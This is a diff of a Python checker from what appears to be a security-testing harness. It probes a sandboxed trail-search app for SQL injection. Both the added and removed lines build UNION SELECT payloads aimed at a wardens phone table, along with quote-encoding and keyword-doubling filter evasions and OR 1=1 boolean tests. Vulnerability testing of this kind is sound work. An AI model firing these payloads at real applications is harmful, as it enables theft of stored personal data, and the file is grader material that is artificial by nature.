@@ -2,15 +2,9 @@
 
 import json
 
-from deepguard_ci.judging import Raised, make_table, token
+from deepguard_ci.judging import Raised, make_table, sql, token
 
 TABLES = "trails (name text, region text, km real)", "wardens (region text, phone text)"
-# what may end the string in the statement: quotes, and what some decoding turns into one
-ENDS = "'", '"', "')", '")', "'))", '"))', "", "%27", "%22", "%27)", "%2527", "&#39;", "\\'", "\uff07"
-# without blanks; where words are deleted once; without a comment
-OTHERS = ("{0}/**/uNiOn/**/sElEcT/**/{1}/**/fRoM/**/wardens--", "{0}\nUNION\nSELECT\n{1}\nFROM\nwardens\n--",
-          "{0} UNUNIONION SESELECTLECT {1} FROM wardens WHERE {0}%{0}={0}",
-          "{0} UNION SELECT {1} FROM wardens WHERE {0}%{0}={0}")  # fmt: skip
 
 
 def search(box, q):
@@ -32,14 +26,17 @@ def functional(box, rng):
 
 
 def attacks():
-    for start in "zz", "zz%":
-        for end in ENDS:
-            for n in range(1, 4):
-                yield f"{start}{end} UNION SELECT {', '.join(['phone'] * n)} FROM wardens --"
-    for form in OTHERS:
-        for end in "'", '"':
-            for n in range(1, 4):
-                yield "zz" + form.format(end, ",".join(["phone"] * n))
+    for columns in ("phone", "phone, 1, 1", "phone, 1"):
+        for ending in sql(f"' UNION SELECT {columns} FROM wardens --"):
+            yield f"zz{ending}"
+        for start in ("') ", "%' ", "%') ", "')) ", " ", ") "):
+            for ending in (start, start.replace("'", '"'), start.replace("'", "\uff07"), start.replace("'", "%27")):
+                yield f"zz{ending}UNION SELECT {columns} FROM wardens --"
+        for quote in "'\"":
+            union = f"{quote} UNION SELECT {columns} FROM wardens WHERE {quote}%{quote}={quote}"
+            yield from ("zz" + union, f"zz{union[0]} UNUNIONION SESELECTLECT{union[15:]}", ["zz", "zz" + union])
+            yield from (["zz", f"zz{quote} UNION SELECT {columns} FROM wardens --"],
+                        f"{quote} UNION SELECT {columns} FROM wardens --")
 
 
 def tells(box, q, word):
@@ -56,8 +53,8 @@ def exploit(box, rng):
     for q in attacks():
         if tells(box, q, phone):
             return f"the search q={q!r} gave a warden's phone"
-    for end in ENDS:
-        true, false = f"zz{end} OR 1=1 --", f"zz{end} OR 1=2 --"
-        if tells(box, true, trail) and not tells(box, false, trail):
+    for true in (*sql("' OR 1=1 --"), *sql("') OR 1=1 --"), *sql("' OR '1'='1")):
+        false = true.replace("1=1", "1=2").replace("=", "<>") if "1=1" not in true else true.replace("1=1", "1=2")
+        if tells(box, f"zz{true}", trail) and not tells(box, f"zz{false}", trail):
             return f"the search q={true!r} gave a trail without that in its name, q={false!r} did not"
     return None
